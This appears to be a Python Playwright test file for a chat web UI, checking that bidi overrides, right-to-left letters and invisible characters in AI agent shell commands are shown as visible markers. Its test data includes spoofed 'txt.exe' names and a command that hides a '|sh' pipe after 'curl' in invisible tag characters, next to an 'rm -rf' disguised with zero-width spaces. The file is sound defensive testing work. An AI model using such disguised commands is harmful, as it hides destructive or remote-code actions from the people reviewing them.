"""Bidi controls (U+202E RIGHT-TO-LEFT OVERRIDE and friends) in what the page shows are drawn
as visible markers, not applied (web/bidi.js, ADR 0125): `cat \\u202Etxt.exe` would read
`cat exe.txt`, another command than the one that ran. The command, the work directory, a tool
call's title and the output read in the order their characters run; copying takes the real
text."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Locator, expect
from web.chat import ChatPage

from support.acp import codex_end, codex_start
from support.rest import Api, unique
from support.stack import Stack

pytestmark = [pytest.mark.browser, pytest.mark.slow]

RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE
MARKER = "⟨U+202E⟩"
COMMAND = f"cat {RLO}txt.exe"
WORK_DIR = f"/home/dev/{RLO}gpj.exe"
OUTPUT = f"reading {RLO}fdp.exe\n"

# Where each character of `word` is drawn, left to right on screen, in the first text node of
# `el` that holds it.
LEFTS = """(el, word) => {
    const walker = document.createTreeWalker(el, NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
        const start = node.data.indexOf(word);
        if (start < 0) continue;
        return [...word].map((_, i) => {
            const range = document.createRange();
            range.setStart(node, start + i);
            range.setEnd(node, start + i + 1);
            return range.getBoundingClientRect().left;
        });
    }
    return null;
}"""


def assert_reads_in_order(el: Locator, word: str) -> None:
    expect(el).to_contain_text(word)
    lefts: list[float] | None = el.evaluate(LEFTS, word)
    assert lefts is not None, f"{word!r} is not one text run"
    assert lefts == sorted(lefts), f"{word!r} is drawn reordered: {lefts}"


def test_a_command_its_work_dir_and_output_show_bidi_controls_and_copy_the_real_text(
        stack: Stack, api: Api, chat: ChatPage) -> None:
    session = api.new_session("codex")
    api.start_turn(session["id"])
    call = unique("call")
    message_id = api.play(session["id"], [codex_start(call, COMMAND, work_dir=WORK_DIR),
                                          codex_end(call, OUTPUT, 0)])
    tool_id = api.play(session["id"], [{
        "sessionUpdate": "tool_call", "toolCallId": unique("read"), "kind": "read",
        "title": f"Read {RLO}txt.exe", "status": "completed"}])
    chat.open(f"{stack.rest_url}/?session={session['id']}")

    row = chat.shell_row(message_id)
    command = row.get_by_test_id("shell-command")
    expect(command).to_have_text(f"cat {MARKER}txt.exe")
    assert_reads_in_order(command, "txt.exe")
    work_dir = row.get_by_test_id("shell-workdir")
    expect(work_dir).to_have_text(f"/home/dev/{MARKER}gpj.exe")
    assert_reads_in_order(work_dir, "gpj.exe")
    title = chat.page.locator(f'[data-testid=tool-call-row][data-message-id="{tool_id}"]'
                              ).get_by_test_id("tool-call-title")
    expect(title).to_have_text(f"Read {MARKER}txt.exe")
    assert_reads_in_order(title, "txt.exe")

    body = chat.expand_finished(message_id)
    stdout = body.get_by_test_id("shell-output-stdout")
    expect(stdout).to_have_text(f"reading {MARKER}fdp.exe\n")
    assert_reads_in_order(stdout, "fdp.exe")

    chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    assert chat.copied(row.get_by_test_id("shell-command-copy")) == COMMAND
    assert chat.copied(body.get_by_test_id("shell-output-copy")) == OUTPUT


# An agent name is free text up to 64 characters; a stop reason up to 64 too.
AGENT = f"helper {RLO}tnega-live-" + "x" * 40
AGENT_SHOWN = f"helper {MARKER}tnega-live-" + "x" * 40
STOP_REASON = f"end_turn {RLO}deifirev"


def test_the_agent_and_a_stop_reason_show_bidi_controls_in_the_header_the_index_and_the_chat(
        stack: Stack, api: Api, chat: ChatPage, viewport: str) -> None:
    session = api.new_session(AGENT)
    turn_id = api.start_turn(session["id"])
    call = unique("call")
    api.play(session["id"], [codex_start(call, "true"), codex_end(call, "", 0)])
    api.complete_turn(session["id"], turn_id, STOP_REASON)

    chat.open(f"{stack.rest_url}/?session={session['id']}")
    agent = chat.page.get_by_test_id("session-agent")
    expect(agent).to_have_text(AGENT_SHOWN)
    assert_reads_in_order(agent, "tnega-live-")
    reason = chat.page.get_by_test_id("turn-stop-reason")
    expect(reason).to_have_text(f"end_turn {MARKER}deifirev")
    assert_reads_in_order(reason, "deifirev")
    chat.assert_no_horizontal_overflow()

    chat.page.goto(f"{stack.rest_url}/")
    item = chat.page.locator(f'[data-testid=session-index-item][data-session-id="{session["id"]}"]')
    listed = item.get_by_test_id("session-index-agent")
    expect(listed).to_have_text(AGENT_SHOWN)
    assert_reads_in_order(listed, "tnega-live-")
    expect(listed.locator(".bidi-control")).to_have_attribute(
        "title", re.compile("RIGHT-TO-LEFT OVERRIDE"))
    chat.assert_no_horizontal_overflow()


def test_right_to_left_letters_do_not_reorder_a_command_or_its_work_dir(
        stack: Stack, api: Api, chat: ChatPage) -> None:
    # Isolated but not overridden, `cat א > ב` (overwrite ב) read `cat ב < א` (show ב), and
    # `cp א 1 2 ב` read `cp ב 2 1 א`.
    command, work_dir = "cat א > ב && cp א 1 2 ב", "/srv/א 1/ב"
    session = api.new_session("codex")
    api.start_turn(session["id"])
    call = unique("call")
    message_id = api.play(session["id"], [codex_start(call, command, work_dir=work_dir),
                                          codex_end(call, "done\n", 0)])
    chat.open(f"{stack.rest_url}/?session={session['id']}")

    row = chat.shell_row(message_id)
    assert_reads_in_order(row.get_by_test_id("shell-command"), command)
    assert_reads_in_order(row.get_by_test_id("shell-workdir"), work_dir)


MAX_MARKERS = 200  # web/bidi.js
TIMES = "\u00d7"  # the sign a run's marker counts its controls with


def test_a_run_of_controls_is_one_marker_and_a_text_draws_a_bounded_number_of_them(
        stack: Stack, api: Api, chat: ChatPage) -> None:
    # One marker element per control cost a layout each: a title of 20,000 overrides froze the
    # page for 5 to 8 s, 80,000 for 99 s.
    session = api.new_session("codex")
    api.start_turn(session["id"])
    tool_id = api.play(session["id"], [{
        "sessionUpdate": "tool_call", "toolCallId": unique("read"), "kind": "read",
        "title": f"Read {RLO * 80_000}x", "status": "completed"}])
    alternating = "a" + f"{RLO}a" * 40_000  # 40,000 runs of one control each
    call = unique("call")
    message_id = api.play(session["id"], [codex_start(call, alternating), codex_end(call, "", 0)])
    chat.open(f"{stack.rest_url}/?session={session['id']}")

    title = chat.page.locator(f'[data-testid=tool-call-row][data-message-id="{tool_id}"]'
                              ).get_by_test_id("tool-call-title")
    expect(title).to_have_text(f"Read ⟨U+202E {TIMES}80000⟩x")
    expect(title.locator(".bidi-control")).to_have_attribute(
        "title", re.compile(f"^80000 characters.*RIGHT-TO-LEFT OVERRIDE {TIMES}80000"))

    command = chat.shell_row(message_id).get_by_test_id("shell-command")
    expect(command.locator(".bidi-control")).to_have_count(MAX_MARKERS + 1)  # and one note
    expect(command.locator(".bidi-control--limit")).to_have_count(1)
    shown = command.evaluate("el => el.textContent")
    assert RLO not in shown
    # Past the bound, as ASCII text: 40,000 `⟨` in one text node took 3.5 s to lay out.
    assert shown.count(MARKER) == MAX_MARKERS
    assert shown.count("<U+202E>") == 40_000 - MAX_MARKERS
    assert shown.endswith("<U+202E>a")

    chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    row = chat.shell_row(message_id)
    assert chat.copied(row.get_by_test_id("shell-command-copy")) == alternating


def tags(text: str) -> str:
    """`text` spelled in tag characters (U+E0000 + ASCII), which draw nothing."""
    return "".join(chr(0xE0000 + ord(c)) for c in text)


def test_invisible_characters_in_a_command_and_its_work_dir_are_shown_and_copied_as_they_are(
        stack: Stack, api: Api, chat: ChatPage) -> None:
    # Each of these drew nothing (or a space) where it was: the row showed another command
    # than the one that ran.
    command = f"rm -rf /tmp/build\u200b /\u2060home curl x{tags('|sh')} && ls\rpwd\u00ad"
    work_dir = "/srv/\ufeffapp\u2028x"
    session = api.new_session("codex")
    api.start_turn(session["id"])
    call = unique("call")
    message_id = api.play(session["id"], [codex_start(call, command, work_dir=work_dir),
                                          codex_end(call, "", 0)])
    tool_id = api.play(session["id"], [{
        "sessionUpdate": "tool_call", "toolCallId": unique("read"), "kind": "read",
        "title": "Read 👩\u200d💻 notes", "status": "completed"}])
    chat.open(f"{stack.rest_url}/?session={session['id']}")

    row = chat.shell_row(message_id)
    expect(row.get_by_test_id("shell-command")).to_have_text(
        "rm -rf /tmp/build⟨U+200B⟩ /⟨U+2060⟩home curl x⟨U+E007C U+E0073 U+E0068⟩ && ls⟨U+000D⟩"
        "pwd⟨U+00AD⟩")
    expect(row.get_by_test_id("shell-command").locator(".bidi-control").nth(2)).to_have_attribute(
        "title", re.compile("TAG '\\|', TAG 's', TAG 'h'"))
    expect(row.get_by_test_id("shell-workdir")).to_have_text("/srv/⟨U+FEFF⟩app⟨U+2028⟩x")
    # A title keeps its joiners: an emoji sequence (and scripts that need them) join with them.
    title = chat.page.locator(f'[data-testid=tool-call-row][data-message-id="{tool_id}"]'
                              ).get_by_test_id("tool-call-title")
    expect(title).to_have_text("Read 👩\u200d💻 notes")

    chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    assert chat.copied(row.get_by_test_id("shell-command-copy")) == command
